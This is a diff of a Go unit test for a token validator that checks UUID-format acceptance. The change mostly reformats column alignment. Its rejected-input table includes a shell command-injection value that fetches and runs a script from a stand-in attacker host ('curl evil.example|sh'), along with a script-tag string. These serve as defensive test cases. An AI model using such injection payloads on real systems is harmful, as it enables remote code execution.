@@ -119,16 +119,16 @@ func TestValidateFieldMatchesValidate(t *testing.T) {
 
 func TestValidToken(t *testing.T) {
 	for token, want := range map[string]bool{
-		"4520efa4-ee63-4a6d-a585-091dc338ee28": true,
-		"4520EFA4-EE63-4A6D-A585-091DC338EE28": true,
-		"abc":                                  false,
-		"":                                     false,
-		"has space":                            false,
-		"<script>":                             false,
-		"x'$(curl evil.example|sh)'":           false,
-		"4520efa4-ee63-4a6d-a585-091dc338ee2'": false,
+		"4520efa4-ee63-4a6d-a585-091dc338ee28":  true,
+		"4520EFA4-EE63-4A6D-A585-091DC338EE28":  true,
+		"abc":                                   false,
+		"":                                      false,
+		"has space":                             false,
+		"<script>":                              false,
+		"x'$(curl evil.example|sh)'":            false,
+		"4520efa4-ee63-4a6d-a585-091dc338ee2'":  false,
 		"4520efa4-ee63-4a6d-a585-091dc338ee28 ": false,
-		"4520efa4ee634a6da585091dc338ee28":     false,
+		"4520efa4ee634a6da585091dc338ee28":      false,
 	} {
 		if got := ValidToken(token); got != want {
 			t.Errorf("ValidToken(%q) = %v, want %v", token, got, want)
